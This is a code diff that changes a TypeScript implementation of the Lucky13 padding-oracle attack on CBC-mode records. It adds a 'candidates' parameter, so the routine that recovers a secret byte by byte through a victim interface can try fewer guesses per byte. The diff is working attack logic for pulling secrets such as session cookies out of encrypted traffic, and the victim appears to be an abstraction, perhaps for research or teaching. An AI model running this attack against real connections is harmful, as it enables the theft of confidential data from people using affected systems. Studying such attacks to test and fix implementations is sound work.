@@ -64,11 +64,13 @@ const BLOCK = 16;
 
 /**
  * The attack. `before` is the number of bytes in front of the path, and the two bytes behind it are known: `mark`. It finds the `length` bytes
- * of the secret behind them one after the other, each with at most 256 connections. Gives up on a byte for which no guess stands out.
+ * of the secret behind them one after the other, each with at most one connection for each byte of `candidates`. Gives up on a byte for which
+ * no guess stands out.
  */
 export function lucky13(
   victim: Lucky13Victim,
   { before, mark, length }: { readonly before: number; readonly mark: Uint8Array; readonly length: number },
+  candidates: Uint8Array = Uint8Array.from({ length: 256 }, (_, byte) => byte),
 ): Lucky13Result {
   let known = mark;
   let questions = 0;
@@ -76,7 +78,7 @@ export function lucky13(
     // The next byte of the secret is the last of a block, and the byte before it is known.
     const path = new Uint8Array(BLOCK + ((2 * BLOCK - ((before + mark.length + i + 1) % BLOCK)) % BLOCK)).fill(0x41);
     const end = before + path.length + mark.length + i + 1;
-    const found = findByte(victim, path, end, known.at(-1)!);
+    const found = findByte(victim, path, end, known.at(-1)!, candidates);
     questions += found.questions;
     if (found.byte === undefined) break;
     known = concat(known, Uint8Array.of(found.byte));
@@ -93,10 +95,11 @@ function findByte(
   path: Uint8Array,
   end: number,
   byteBefore: number,
+  candidates: Uint8Array,
 ): { readonly byte: number | undefined; readonly questions: number } {
   const counts = new Map<number, number[]>();
   let questions = 0;
-  for (let guess = 0; guess < 256; guess++) {
+  for (const guess of candidates) {
     questions++;
     const { blocks } = victim.request(path, (bytes, from) => {
       const records = recordsIn(bytes);
